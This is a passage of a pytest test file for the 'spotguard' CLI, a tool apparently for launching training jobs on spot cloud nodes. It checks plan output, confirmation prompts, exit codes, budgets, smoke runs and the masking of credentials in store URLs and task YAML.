"""Each command against a controller that does nothing: what it asks, prints and returns."""

from __future__ import annotations

import json
import re
import sys
import time
from dataclasses import replace
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
import yaml

from spotguard.api import doctor
from spotguard.cli.views import formats
from spotguard.control.drill import batch_trial
from spotguard.control.drill.smoke import run as smoke_run
from spotguard.control.drill.smoke.run import SmokeOutcome
from spotguard.control.handover.stored_job import StoredJob
from spotguard.control.journal.stored.logs import LogLine
from spotguard.control.supervisor import skypilot_request
from spotguard.errors import (
    BudgetExhausted,
    EnvironmentFailure,
    JournalDamaged,
    SmokeFailed,
    StoreUnavailable,
)
from spotguard.events.states import Market, RunState
from spotguard.launch.base import Offer, PriceSource, Skipped, Survey
from spotguard.launch.skypilot import existence
from spotguard.policy.plan.batch_curve import BatchCurve, TriedSize
from spotguard.policy.plan.smoke import Smoke
from spotguard.shared.units import format_bytes
from spotguard.spec.model import JobSpec
from tests.cli import pictures

if TYPE_CHECKING:
    from tests.cli.conftest import Cli
    from tests.cli.fake_control import FakeControl


CHECK_PLACES = skypilot_request.check_places


@pytest.fixture
def answer(monkeypatch: pytest.MonkeyPatch) -> Any:
    """Return a function that puts an answering user in front of the terminal."""

    class Keyboard:
        def __init__(self, text: str) -> None:
            self.text = text

        def isatty(self) -> bool:
            return True

        def readline(self) -> str:
            return self.text

    return lambda text: monkeypatch.setattr(sys, "stdin", Keyboard(text))


def test_up_shows_the_plan_starts_follows_and_sums_up(
    cli: Cli, control: FakeControl, script: str
) -> None:
    """One command: plan, happenings, final summary, and the run's own exit code."""
    control.views = [pictures.run(), pictures.run(), pictures.finished()]
    said = cli("up", script, "--nodes", "2", "--yes", "--budget", "$200")
    assert said.code == 0
    assert [what[0] for what in control.asked] == ["create", "start"]
    spec = control.asked[0][1]
    assert (spec.nodes.max, spec.budget_usd, spec.args) == (2, 200.0, ())
    for shown in ("on demand", "$6.12/h", "4 d 12 h", "node 1 got a notice", "71 % saved"):
        assert shown in said.out
    assert said.out.index("plan") < said.out.index("node 1 got") < said.out.index("finished")


def test_options_may_stand_on_both_sides_and_job_arguments_after_the_dashes(
    cli: Cli, control: FakeControl, script: str
) -> None:
    """What comes after `--` is the job's, also when it looks like an option of ours."""
    arguments = ("-y", "--nodes", "1:4", script, "--mtbf", "60s", "--", "--budget", "x", "-y")
    assert cli("up", *arguments).code == 0
    spec = control.asked[0][1]
    assert spec.args == ("--budget", "x", "-y")
    assert spec.budget_usd is None
    assert spec.local.mtbf_s == 60.0


def test_every_job_option_reaches_its_setting(
    cli: Cli, control: FakeControl, script: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """No option is accepted and then forgotten."""
    monkeypatch.setenv("TOKEN_OF_MINE", "from the shell")
    assert (
        cli(
            *("up", script, "-y", "--nproc-per-node", "2", "--infra", "local", "--name", "mine"),
            *("--store", "st", "--template", "aws", "--save-every", "100 steps", "--env", "A=b=c"),
            *("--env", "TOKEN_OF_MINE", "--deadline", "8h", "--market", "spot", "--price", "1"),
            *(
                "--on-demand-price",
                "3",
                "--allow-unknown-price",
                "--metadata",
                "gcp",
                "--interrupt-seed",
                "7",
            ),
            *("--interrupt", "node=0@step=4:kill", "--interrupt", "node=0@step=9:term"),
            *("--speed-up", "20", "--budget", "5"),
        ).code
        == 0
    )
    spec = control.asked[0][1]
    assert spec.nproc_per_node == 2
    assert spec.name == "mine"
    assert spec.store == str(Path("st").absolute())
    assert spec.template == "aws"
    assert spec.save_every == "100 steps"
    assert spec.env == {"A": "b=c", "TOKEN_OF_MINE": "from the shell"}
    assert spec.deadline_s == 8 * 3600
    assert (spec.price_usd_per_h, spec.on_demand_usd_per_h) == (1.0, 3.0)
    assert spec.allow_unknown_price
    assert spec.local.metadata == "gcp"
    assert spec.local.interrupt == ("node=0@step=4:kill", "node=0@step=9:term")
    assert (spec.local.interrupt_seed, spec.local.speed_up) == (7, 20.0)


def test_the_seed_of_interruptions_is_not_called_like_that_of_training(
    cli: Cli, control: FakeControl, script: str
) -> None:
    """`--seed` still works, is not shown, and says what it is called now."""
    said = cli("up", script, "-y", "--mtbf", "60s", "--seed", "7")
    assert said.code == 0
    assert control.asked[0][1].local.interrupt_seed == 7
    assert "--seed is called --interrupt-seed now" in said.err
    assert "SPOTGUARD_SEED" in said.err

    assert "--interrupt-seed" not in cli("up", script, "-y", "--interrupt-seed", "7").err
    for command in ("up", "plan", "drill"):
        shown = cli(command, "--help").out
        assert "--interrupt-seed" in shown
        assert "--seed" not in shown.replace("--interrupt-seed", "")


@pytest.mark.parametrize("command", ["plan", "up", "drill"])
def test_what_a_script_needs_and_this_machine_lacks_is_told(
    cli: Cli,
    control: FakeControl,
    clouds: None,
    script: str,
    monkeypatch: pytest.MonkeyPatch,
    command: str,
) -> None:
    """Local nodes install nothing of a PEP 723 block, so the user must, and is told how."""
    monkeypatch.setattr(doctor, "run_drill", lambda *_: 1 / 0)
    block = (
        '# /// script\n# requires-python = ">=3.99"\n'
        '# dependencies = ["pytest", "no-such-thing>=2", "other; python_version < \'3\'"]\n# ///\n'
    )
    Path(script).write_text(block + Path(script).read_text())
    said = cli(command, script, *(["-y"] if command == "up" else []))
    told = " ".join((said.out + said.err).split())
    assert "local nodes install nothing, and this Python lacks: no-such-thing>=2" in told
    assert "pip install 'no-such-thing>=2'" in told
    assert "the script wants Python >=3.99" in told
    assert "pytest" not in told.partition("lacks: ")[2].partition("hint")[0]
    elsewhere = cli("plan", script, "--infra", "aws")
    assert (elsewhere.code, elsewhere.err) == (0, "")


def test_the_plan_as_json_says_what_is_missing(cli: Cli, script: str) -> None:
    """Also as a document; nothing is missing where nothing is asked for, or nodes install it."""
    assert json.loads(cli("plan", script, "--json").out)["not_installed"] == []
    block = '# /// script\n# dependencies = ["no-such-thing"]\n# ///\n'
    Path(script).write_text(block + Path(script).read_text())
    assert json.loads(cli("plan", script, "--json").out)["not_installed"] == ["no-such-thing"]


def test_up_without_a_terminal_wants_yes(cli: Cli, control: FakeControl, script: str) -> None:
    """A script never hangs on a question; it is told to pass --yes, and nothing starts."""
    said = cli("up", script)
    assert said.code == 2
    assert "--yes" in said.err
    assert control.asked == []


@pytest.mark.parametrize("text", ["n\n", "\n", ""])
def test_whatever_is_not_yes_starts_nothing(
    cli: Cli, control: FakeControl, script: str, answer: Any, text: str
) -> None:
    """Enter, 'n' and Ctrl-D are all a no."""
    answer(text)
    said = cli("up", script)
    assert said.code == 1
    assert "nothing was started" in said.err
    assert control.asked == []


def test_yes_on_a_terminal_starts(cli: Cli, control: FakeControl, script: str, answer: Any) -> None:
    """The question is asked on stderr and 'y' is enough."""
    answer("y\n")
    said = cli("up", script)
    assert said.code == 0
    assert "Start? [y/N]" in said.err


def test_ctrl_c_detaches_and_prints_the_two_commands(
    cli: Cli, control: FakeControl, script: str
) -> None:
    """Leaving is not stopping: exit 75, how to look, how to stop, and no request was made."""
    control.views, control.interrupt_after = [pictures.run()], 2
    said = cli("up", script, "--yes")
    assert said.code == 75
    assert f"spotguard status {pictures.RUN} --watch" in said.err
    assert f"spotguard stop {pictures.RUN}" in said.err
    assert [what[0] for what in control.asked] == ["create", "start"]


def test_detach_returns_at_once(cli: Cli, control: FakeControl, script: str) -> None:
    """`up -d` leaves the run in the background and says how to find it."""
    control.views = [pictures.run()]
    said = cli("up", script, "-y", "-d")
    assert said.code == 0
    assert f"spotguard status {pictures.RUN} --watch" in said.err


@pytest.mark.parametrize("command", ["up", "plan"])
def test_gpus_that_nobody_would_get_are_refused(cli: Cli, script: str, command: str) -> None:
    """Without --infra, processes of this machine play the nodes: eight GPUs are not to be had."""
    said = cli(command, script, "--gpus", "A100:8")
    assert said.code == 2
    assert "processes of this machine play the nodes" in said.err
    assert "--infra aws" in said.err
    assert "--nproc-per-node 8" in said.err


def test_a_files_gpus_do_not_stand_in_the_way_of_a_trial_here(
    cli: Cli, script: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`--infra local` beside a project's file is a trial of the same job."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "spotguard.toml").write_text('infra = "aws"\ngpus = "A100:8"\n')
    assert cli("plan", script, "--infra", "local").code == 0


@pytest.mark.parametrize(
    ("words", "way_out"),
    [
        (("up", "train.sh"), "give the Python script that trains"),
        (("up", "-m", "pkg.train"), "spotguard up pkg/train.py"),
        (("up", "JOB", "--env-file", ".env"), "--env NAME takes the shell's value"),
    ],
)
def test_what_users_of_other_tools_type_leads_on(
    cli: Cli, script: str, words: tuple[str, ...], way_out: str
) -> None:
    """A shell script, a module and a file of variables are not taken; the hint does the same."""
    said = cli(*(script if word == "JOB" else word for word in words))
    assert said.code == 2
    assert way_out in said.err


@pytest.mark.parametrize(
    "words",
    [
        ("plan", "JOB", "--store"),
        ("up", "JOB", "-y", "--store"),
        ("runs",),
        ("team",),
        ("dashboard",),
    ],
)
@pytest.mark.parametrize("store", ["s3//foo", "s3:/foo", "gs:foo", "AZ//c@a", "https:/a.b/c"])
def test_a_url_with_a_slash_left_out_is_no_folder(
    cli: Cli, script: str, tmp_path: Path, words: tuple[str, ...], store: str
) -> None:
    """It became a folder on this machine, which everything approved of."""
    before = sorted(tmp_path.rglob("*"))
    said = cli(*(script if word == "JOB" else word for word in words), store)
    assert said.code == 2
    assert "is neither a URL nor a plain path" in said.err
    assert "did you mean" in said.err
    assert "://" in said.err
    assert sorted(tmp_path.rglob("*")) == before


@pytest.mark.parametrize(
    "store",
    ["s3://AKIA:hunter2@bucket/x", "az://c:hunter2@a/x", "gs://k:hunter2@b", "s3//k:hunter2@b"],
)
def test_a_plan_shows_no_login_of_a_stores_url(cli: Cli, script: str, store: str) -> None:
    """The store is opened before anything of it is printed."""
    said = cli("plan", script, "--store", store)
    assert said.code == 2
    assert "hunter2" not in said.out + said.err


@pytest.mark.parametrize("words", [("runs",), ("team",), ("dashboard",)])
def test_a_folder_that_is_not_there_has_no_runs_to_tell_of(
    cli: Cli, tmp_path: Path, words: tuple[str, ...]
) -> None:
    """A mistyped path is no store without runs."""
    said = cli(*words, str(tmp_path / "sotre"))
    assert said.code == 2
    assert "there is no such folder" in said.err


def test_up_json_prints_one_document_only(cli: Cli, control: FakeControl, script: str) -> None:
    """stdout is the final status and nothing else."""
    control.views = [pictures.run(), pictures.finished()]
    said = cli("up", script, "--yes", "--json")
    assert said.code == 0
    assert json.loads(said.out)["state"] == "finished"


@pytest.mark.parametrize(("state", "code"), [(RunState.FAILED, 10), (RunState.PAUSED, 20)])
def test_up_returns_how_the_run_ended(
    cli: Cli, control: FakeControl, script: str, state: RunState, code: int
) -> None:
    """The exit code is the run's, not the command's."""
    control.views = [pictures.run(state=state, traceback="ValueError: no")]
    assert cli("up", script, "--yes").code == code


def test_up_gives_up_on_lost_contact_with_30(cli: Cli, control: FakeControl, script: str) -> None:
    """Contact lost beyond the patience is its own exit code; nothing is stopped."""
    control.views = [pictures.run(state=RunState.CONTACT_LOST)]
    said = cli("up", script, "--yes", "--contact-patience", "0")
    assert said.code == 30
    assert [what[0] for what in control.asked] == ["create", "start"]


def test_a_patience_that_is_no_duration_is_a_usage_error(
    cli: Cli, control: FakeControl, script: str
) -> None:
    """It says what was given and what is allowed."""
    said = cli("up", script, "--yes", "--contact-patience", "soon")
    assert said.code == 2
    assert "'soon'" in said.err
    assert "10m" in said.err


def test_a_refused_start_is_one_sentence_with_its_own_code(
    cli: Cli, control: FakeControl, script: str
) -> None:
    """A budget that is too small exits with 20 before anything runs."""
    control.refuse = BudgetExhausted("of $0.01 nothing is left", hint="raise it")
    said = cli("up", script, "--yes")
    assert said.code == 20
    assert "error: of $0.01 nothing is left\nhint: raise it\n" in said.err
    assert control.asked == []


@pytest.mark.parametrize(
    ("arguments", "code", "part"),
    [
        (("up", "nowhere.py", "-y"), 2, "nowhere.py"),
        (("up", "JOB", "-y", "--budget", "-5"), 2, "budget"),
        (("up", "JOB", "-y", "--template", "awss"), 2, "aws"),
        (("up", "JOB", "-y", "--env", "NOT_SET_ANYWHERE"), 2, "NOT_SET_ANYWHERE"),
        (("up", "JOB", "-y", "--bugdet", "5"), 2, "come after `--`"),
        (("up", "JOB", "-y", "--any-of", "a,b"), 2, "--gpus A100:8,H100:8"),
        (("status", "other"), 2, pictures.RUN),
        (("stauts",), 2, "status"),
        (("train.py",), 2, "spotguard up"),
        (("resume", "--nodes", "4:1"), 2, "nodes"),
        (("resume", "--budget", "much"), 2, "budget"),
        (("status", "--watch", "--json"), 2, "--watch"),
    ],
)
def test_bad_input_is_one_clear_sentence(
    cli: Cli, control: FakeControl, script: str, arguments: tuple[str, ...], code: int, part: str
) -> None:
    """Wrong input exits with 2, names the culprit, and shows no traceback."""
    said = cli(*(script if a == "JOB" else a for a in arguments))
    assert said.code == code
    assert said.err.startswith("error: ")
    assert part in said.err
    assert "Traceback" not in said.err
    assert said.out == ""
    assert control.asked == []


def test_plan_shows_places_rates_and_hours_and_starts_nothing(
    cli: Cli, control: FakeControl, script: str
) -> None:
    """One row for each node count, most nodes first; the hours that the budget buys."""
    said = cli("plan", script, "--nodes", "1:2", "--budget", "9.18")
    rows = [line.split() for line in said.out.splitlines() if "p3.2xlarge" in line]
    assert said.code == 0
    assert [row[4] for row in rows] == ["2", "1"]
    assert "$1.84/h" in rows[0]
    assert "10 h 00 min" in said.out
    assert max(map(len, said.out.splitlines())) <= 80
    assert control.asked == []


def test_plan_json(cli: Cli, control: FakeControl, script: str) -> None:
    """The same as a document."""
    body = json.loads(cli("plan", script, "--json").out)
    assert body["schema"] == 1
    assert body["candidates"][0]["price_usd_per_h"] == 0.918
    assert body["candidates"][0]["hours_bought"] is None


@pytest.fixture
def clouds(monkeypatch: pytest.MonkeyPatch) -> None:
    """Answer for SkyPilot: nine zones on AWS, and one that has no spot nodes."""
    zones = [
        Offer(
            infra="aws",
            region="us-east-1",
            zone=f"us-east-1{letter}",
            instance_type="g6.xlarge",
            market=market,
            price_usd_per_h=price,
            on_demand_usd_per_h=0.8,
        )
        for letter in "abcdefghi"
        for market, price in ((Market.SPOT, 0.25), (Market.ON_DEMAND, 0.8))
    ]
    found = Survey(
        offers=tuple(zones),
        skipped=(Skipped(place="aws/eu-west-1", market=Market.SPOT, why="has no spot price"),),
        sources=(PriceSource(infra="aws", source="SkyPilot's catalogue", read_at=time.time()),),
    )
    monkeypatch.setattr(skypilot_request, "find_offers", lambda spec: found)
    monkeypatch.setattr(skypilot_request, "check_places", lambda spec: ())


MEASURED = Smoke(
    state_bytes=1_500_000_000,
    save_s=2.0,
    step_s=0.4,
    step_samples=2,
    first_step_s=6.0,
    at=1_700_000_000.0,
    emergency_s=8.2,
    notice_s=120.0,
)
ON_AWS = ("--infra", "aws", "--store", "s3://b/r")


@pytest.fixture
def smokes(monkeypatch: pytest.MonkeyPatch) -> list[Any]:
    """Answer for the smoke: note the job, and raise or return the list's first item, once set."""
    seen: list[Any] = []

    def answer(spec: Any, tell: Any, code: Any = None) -> Any:
        outcome = seen[0]
        seen.append(spec)
        if isinstance(outcome, Exception):
            raise outcome
        return outcome

    monkeypatch.delenv("SPOTGUARD_SMOKE_WHEN")
    monkeypatch.setattr(smoke_run, "run_smoke", answer)
    monkeypatch.setattr(smoke_run, "known_smoke", lambda spec: None)
    return seen


@pytest.mark.usefixtures("clouds")
@pytest.mark.parametrize("how", [("--yes",), ("--yes", "--json"), ("--yes", "--detach")])
def test_nothing_is_launched_that_a_smoke_stops(
    cli: Cli, control: FakeControl, script: str, smokes: list[Any], how: tuple[str, ...]
) -> None:
    """In one sentence, with the exit code of a job's own failure; also for scripts (--json)."""
    smokes.append(SmokeFailed("train.py line 3: KeyError: 'x'", hint="mend it"))
    said = cli("up", script, *ON_AWS, *how)
    assert said.code == 10
    assert "error: train.py line 3: KeyError: 'x'" in said.err
    assert control.asked == []
    assert "Start?" not in said.err


@pytest.mark.usefixtures("clouds")
def test_the_plan_shows_what_the_smoke_measured_before_it_asks(
    cli: Cli, control: FakeControl, script: str, smokes: list[Any]
) -> None:
    """The size of a save, and how much of the notice it takes."""
    smokes.append(SmokeOutcome(smoke=MEASURED))
    said = cli("up", script, *ON_AWS, "-y", "--smoke-steps", "3", "--smoke-limit", "2m")
    assert said.code == 0
    shown = " ".join(said.out.replace("│", " ").split())
    assert "passed; state 1.5 GB, an emergency save takes about 8.2 s of the notice's" in shown
    assert (smokes[1].smoke.steps, smokes[1].smoke.limit_s) == (3, 120.0)
    document = json.loads(cli("plan", script, *ON_AWS, "--smoke", "--json").out)
    assert document["smoke"]["state_bytes"] == 1_500_000_000
    assert document["smoke"]["at"] == "2023-11-14T22:13:20.000Z"


@pytest.mark.usefixtures("clouds")
def test_a_smoke_that_was_skipped_says_so_and_lets_pass(
    cli: Cli, control: FakeControl, script: str, smokes: list[Any]
) -> None:
    """Nothing is proven, and nothing is refused."""
    smokes.append(SmokeOutcome(smoke=None, skipped="this machine's Python lacks jax"))
    said = cli("up", script, *ON_AWS, "-y")
    assert said.code == 0
    assert "smoke: skipped, so nothing is proven: this machine's Python lacks jax" in said.err
    smokes[:] = [SmokeOutcome(smoke=MEASURED, warning="no optimizer has stepped yet")]
    said = cli("plan", script, *ON_AWS, "--smoke")
    assert "smoke: passed, but no optimizer has stepped yet" in said.err
    assert "passed; state 1.5 GB" in said.out
    assert control.asked[0][0] == "create"


@pytest.mark.usefixtures("clouds")
@pytest.mark.parametrize(
    ("flags", "expected"),
    [
        (ON_AWS, True),
        ((*ON_AWS, "--no-smoke"), False),
        ((), False),
        (("--smoke",), True),
    ],
)
def test_what_costs_nothing_is_not_tried_first_unless_asked_for(
    cli: Cli,
    control: FakeControl,
    script: str,
    smokes: list[Any],
    flags: tuple[str, ...],
    expected: bool,
) -> None:
    """Only before money, with --smoke always, with --no-smoke never."""
    smokes.append(SmokeOutcome(smoke=MEASURED))
    assert cli("up", script, "-y", *flags).code == 0
    assert (len(smokes) > 1) is expected
    before = len(smokes)
    assert cli("plan", script, *flags).code == 0
    assert (len(smokes) > before) is ("--smoke" in flags)


TRIED = (
    TriedSize(samples=2, fits=True, peak_bytes=400_000_000, pass_s=0.1),
    TriedSize(samples=62, fits=True, peak_bytes=700_000_000, pass_s=1.0),
    TriedSize(samples=128, fits=False, peak_bytes=None, pass_s=None),
)
CURVE = BatchCurve(
    memory_bytes=1_000_000_000,
    kept_free_bytes=100_000_000,
    global_batch_size=512,
    ranks=2,
    most=256,
    chosen=58,
    tried=TRIED,
)


@pytest.mark.parametrize(
    ("curve", "says"),
    [
        (CURVE, "takes 58 of 256: 512 samples of a step on 2 ranks one sample more takes 5.0 MB"),
        (replace(CURVE, chosen=256), "takes 256, all that a rank has"),
        (replace(CURVE, chosen=0, tried=()), "not even one sample fits"),
        (replace(CURVE, chosen=None, kept_free_bytes=None), "time was over before"),
    ],
)
def test_plan_shows_what_micro_batches_take(
    cli: Cli, script: str, monkeypatch: pytest.MonkeyPatch, curve: BatchCurve, says: str
) -> None:
    """A row for each size, and which one `auto` takes; nothing is tried unless it is asked for."""
    asked: list[Any] = []

    def answer(spec: Any, tell: Any, *, memory_bytes: int | None) -> BatchCurve:
        asked.append(memory_bytes)
        return curve

    monkeypatch.setattr(batch_trial, "try_batches", answer)
    shown = " ".join(cli("plan", script, "--probe", "--probe-memory", "0.5").out.split())
    assert says in shown
    for each in curve.tried:
        size = f"{each.samples} {format_bytes(each.peak_bytes) if each.fits else 'does not fit'}"
        assert size in shown
    assert json.loads(cli("plan", script, "--json").out)["probe"] is None
    assert asked == [500_000_000]
    assert cli("plan", script, "--probe-memory", "0.5").code == 2


@pytest.mark.usefixtures("clouds")
def test_plan_of_a_cloud_tells_prices_skips_and_interruptions(cli: Cli, script: str) -> None:
    """What fits on a screen: some places, how many more, who was skipped and why, whose prices."""
    job = ("plan", script, "--infra", "aws", "--gpus", "L4", "--nodes", "1:2", "--budget", "10")
    said = cli(*job, "--on-demand", "fallback-after 20m")
    assert said.code == 0
    rows = [line for line in said.out.splitlines() if line.startswith("aws us-east-1")]
    assert len([row for row in rows if " spot " in row]) == 7  # six on 2 nodes, the first on 1
    assert len([row for row in rows if " on-demand " in row]) == 7
    assert "and 22 more; --json lists all" in said.out
    assert "skipped aws/eu-west-1 (spot): has no spot price" in said.out
    assert re.search(r"prices of aws: SkyPilot's catalogue, \d", said.out)
    assert "lost to spot: interruptions in 1 d 0 h" in said.out
    assert max(map(len, said.out.splitlines())) <= 80

    body = json.loads(cli(*job, "--json").out)
    assert len(body["candidates"]) == 18
    assert body["candidates"][0]["interruptions"] > 1
    assert body["skipped"][0]["why"] == "has no spot price"


@pytest.mark.usefixtures("clouds")
def test_no_budget_is_promised_where_a_price_is_unknown(
    cli: Cli, script: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What nobody knows the price of is not stopped in time; by itself it is never bought."""
    job = ("plan", script, "--infra", "aws", "--gpus", "L4", "--budget", "10")
    assert "$10.00, never more" in cli(*job).out
    found = skypilot_request.find_offers(JobSpec(script=script, workdir="/", name="job", store="s"))
    dear, *others = found.offers
    unpriced = replace(found, offers=(*others, replace(dear, price_usd_per_h=None)))
    monkeypatch.setattr(skypilot_request, "find_offers", lambda spec: unpriced)
    assert "$10.00, never more (places without a price are left out)" in cli(*job).out
    said = cli(*job, "--allow-unknown-price")
    assert "never more" not in said.out
    assert "$10.00, not kept where the price is unknown" in said.out
    for allowed in (False, True):
        flags = ("--allow-unknown-price",) if allowed else ()
        assert json.loads(cli(*job, *flags, "--json").out)["allow_unknown_price"] is allowed


@pytest.mark.usefixtures("clouds")
def test_what_up_has_shown_is_not_asked_again(cli: Cli, control: FakeControl, script: str) -> None:
    """The clouds take seconds to say where nodes can be had: their answer goes with the job."""
    job = ("up", script, "--infra", "aws", "--gpus", "L4", "--detach", "--yes")
    assert cli(*job).code == 0
    assert control.found is not None
    assert [len(each.offers) for each in control.found] == [18]


@pytest.mark.usefixtures("clouds")
@pytest.mark.parametrize(
    ("where", "must_stay_on"),
    [(("--infra", "aws", "--gpus", "L4"), True), (("--infra", "local"), False)],
)
def test_who_leaves_hears_whether_this_machine_must_stay_on(
    cli: Cli, control: FakeControl, script: str, where: tuple[str, ...], must_stay_on: bool
) -> None:
    """Nodes of a cloud are replaced from here; on local nodes nobody would expect otherwise."""
    control.views = [pictures.run()]
    said = cli("up", script, "-y", "-d", *where)
    assert said.code == 0
    assert ("This machine must stay on" in said.err) is must_stay_on
    assert (f"spotguard controller move {pictures.RUN}" in said.err) is must_stay_on


@pytest.mark.usefixtures("clouds")
@pytest.mark.parametrize("command", [("plan",), ("up",), ("up", "--yes", "--json")], ids=" ".join)
def test_a_script_that_would_not_reach_the_nodes_is_refused_before_it_is_tried(
    cli: Cli,
    control: FakeControl,
    script: str,
    tmp_path_factory: pytest.TempPathFactory,
    monkeypatch: pytest.MonkeyPatch,
    command: tuple[str, ...],
) -> None:
    """The first steps may take minutes: what a launch would refuse is said before them."""
    elsewhere = tmp_path_factory.mktemp("elsewhere")
    monkeypatch.chdir(elsewhere)
    said = cli(*command, "--infra", "aws", "--gpus", "L4", script)
    assert (said.code, said.out, control.asked) == (2, "", [])
    assert said.err.startswith(f"error: script: {script} is not below {elsewhere}, the folder")
    assert "smoke" not in said.err


@pytest.fixture
def answers(clouds: None, monkeypatch: pytest.MonkeyPatch) -> dict[str, dict[str, str]]:
    """Let SkyPilot say this of each place, and be asked for it."""
    said: dict[str, dict[str, str]] = {}
    monkeypatch.setattr(skypilot_request, "check_places", CHECK_PLACES)
    monkeypatch.setattr(existence, "ask", lambda question, *about: {p: said[p] for p in about})
    return said


@pytest.mark.parametrize("command", ["plan", "up"])
@pytest.mark.parametrize("field", ["infra", "on_demand_infra"])
def test_a_place_that_is_not_there_is_refused(
    cli: Cli,
    control: FakeControl,
    script: str,
    answers: dict[str, dict[str, str]],
    command: str,
    field: str,
) -> None:
    """Usage, exit code 2: the field, what is there, and the way out; nothing was started."""
    answers["slurm/lab/sport"] = {
        "refusal": "Partition 'sport' not found in cluster 'lab'. "
        "Available partitions: ['spot', 'gpu']"
    }
    answers["slurm/lab/spot"] = {"refusal": ""}
    where = {"infra": "slurm/lab/spot", field: "slurm/lab/sport"}
    flags = [word for key, value in where.items() for word in (f"--{key}".replace("_", "-"), value)]
    said = cli(command, script, *flags)
    assert (said.code, said.out, control.asked) == (2, "", [])
    assert said.err == (
        f"error: {field}: given 'slurm/lab/sport', but SkyPilot has no partition 'sport' in "
        "slurm/lab; there is spot, gpu\nhint: name one that is there, such as slurm/lab/spot\n"
    )


def test_a_place_that_nobody_could_look_up_is_planned_and_told(
    cli: Cli, script: str, answers: dict[str, dict[str, str]]
) -> None:
    """It may be there: a login node that does not answer proves nothing."""
    answers["slurm/lab/spot"] = {"problem": "SkyPilot does not answer: connection refused"}
    said = cli("plan", script, "--infra", "slurm/lab/spot")
    assert said.code == 0
    told = "not known whether there is slurm/lab/spot: SkyPilot does not answer: connection refused"
    assert told in " ".join(said.out.split())
    body = json.loads(cli("plan", script, "--infra", "slurm/lab/spot", "--json").out)
    assert body["unchecked"] == [
        {"place": "slurm/lab/spot", "why": "SkyPilot does not answer: connection refused"}
    ]


@pytest.mark.usefixtures("clouds")
def test_plan_tells_where_on_demand_nodes_are_bought(cli: Cli, script: str) -> None:
    """If elsewhere: in the panel, in the document, and beside the task."""
    job = ("plan", script, "--infra", "aws/us-east-1", "--on-demand-infra", "aws/us-east-2")
    rule = ("--on-demand", "deadline", "--deadline", "2h", "--store", "s3://b/runs")
    assert "aws/us-east-2, when: deadline" in cli(*job, *rule).out
    assert "aws/us-east-2, when: always" in cli(*job, "--market", "on_demand").out
    assert json.loads(cli(*job, "--json").out)["on_demand_infra"] == "aws/us-east-2"
    task = cli(*job, *rule, "--yaml").out
    assert task.endswith("# on demand (deadline): the same at aws/us-east-2\n")
    assert yaml.safe_load(task)["num_nodes"] == 1
    assert "# on demand" not in cli(*job, "--store", "s3://b/runs", "--yaml").out


@pytest.mark.parametrize("other", ["--json", "--smoke", "--probe"])
def test_what_a_task_does_not_tell_is_refused_beside_it(cli: Cli, script: str, other: str) -> None:
    """Who asked for a document would read YAML; who asked for a trial would wait for none."""
    said = cli("plan", script, "--yaml", other)
    assert (said.code, said.out) == (2, "")
    assert f"--yaml and {other} exclude each other" in said.err


@pytest.mark.parametrize("where", [".", "..", "/", "folder"])
@pytest.mark.parametrize(
    "command", [("report", "--json", "--html"), ("metrics", "--textfile"), ("profile", "--out")]
)
def test_a_folder_is_refused_as_a_file_before_anything_is_done(
    cli: Cli,
    control: FakeControl,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    command: tuple[str, ...],
    where: str,
) -> None:
    """With the name of the option, and a way out."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "folder").mkdir()
    said = cli(*command, where)
    assert (said.code, said.out, control.asked) == (2, "", [])
    assert f"{command[-1]}: {where} is a folder, not a file" in said.err
    assert "name a file in it" in said.err


@pytest.mark.usefixtures("clouds")
def test_plan_yaml_is_the_task_and_holds_no_secret(cli: Cli, script: str) -> None:
    """It can be given to `sky launch` but for the values of the user's variables."""
    flags = ("--infra", "aws", "--gpus", "L4:2", "--nodes", "1:3", "--store", "s3://b/runs")
    said = cli("plan", script, "--yaml", *flags, "--env", "TOKEN=hunter2", "--", "--lr", "1")
    assert said.code == 0
    task = yaml.safe_load(said.out)
    assert task["num_nodes"] == 3
    assert len(task["resources"]["ordered"]) == 9
    assert task["envs"]["JOB_NPROC_PER_NODE"] == "2"
    assert task["secrets"] == {"TOKEN": "***"}
    assert "hunter2" not in said.out
    (wheel,) = task["file_mounts"].values()
    assert Path(wheel).is_file()


@pytest.mark.usefixtures("clouds")
def test_plan_yaml_says_what_stands_in_its_way(cli: Cli, control: FakeControl, script: str) -> None:
    """No task without SkyPilot, and none whose nodes could not reach the store."""
    local = cli("plan", script, "--yaml")
    assert (local.code, local.out) == (2, "")
    assert "no SkyPilot task" in local.err
    far = cli("plan", script, "--yaml", "--infra", "aws")
    assert (far.code, far.out) == (2, "")
    assert "cannot reach" in far.err


def test_plan_shows_a_step_on_each_number_of_nodes(
    cli: Cli, control: FakeControl, script: str
) -> None:
    """With batch sizes: micro-batches of each rank, idle ranks, how busy all are.

    The global batch is the same on every rung; what is short or idle is said.
    """
    sizes = ("--global-batch", "20", "--micro-batch", "8")
    said = cli("plan", script, "--nodes", "1:4", *sizes)
    assert said.code == 0
    assert "20 samples a step, in micro-batches of 8, the last one of 4" in said.out
    rows = [" ".join(line.split()) for line in said.out.splitlines()]
    for row in ("4 4 3 0 or 1 1 75 %", "3 3 3 1 - 100 %", "2 2 3 1 or 2 - 75 %", "1 1 3 3 - 100 %"):
        assert row.replace("-", formats.DASH) in rows
    assert max(map(len, said.out.splitlines())) <= 80

    body = json.loads(cli("plan", script, "--nodes", "1:4", *sizes, "--json").out)
    assert [(r["ranks"], r["accumulation"], r["idle_ranks"]) for r in body["rungs"]] == [
        (4, 1, 1),
        (3, 1, 0),
        (2, 2, 0),
        (1, 3, 0),
    ]
    assert body["rungs"][0]["last_samples"] == 4


def test_plan_needs_both_sizes(cli: Cli, control: FakeControl, script: str) -> None:
    """One size says nothing; the other may stand in the script, where the command line wins."""
    said = cli("plan", script, "--global-batch", "20")
    assert said.code != 0
    assert "--micro-batch is missing" in said.err
    with open(script, "a") as file:  # noqa: PTH123 - a line more
        file.write("run.loader(data, global_batch_size=64, micro_batch_size=8)\n")
    body = json.loads(cli("plan", script, "--global-batch", "32", "--json").out)
    assert (body["global_batch"], body["micro_batch"]) == (32, 8)
    assert json.loads(cli("plan", script, "--json").out)["rungs"][0]["accumulation"] == 8


def test_status_tells_the_whole_story(cli: Cli, control: FakeControl) -> None:
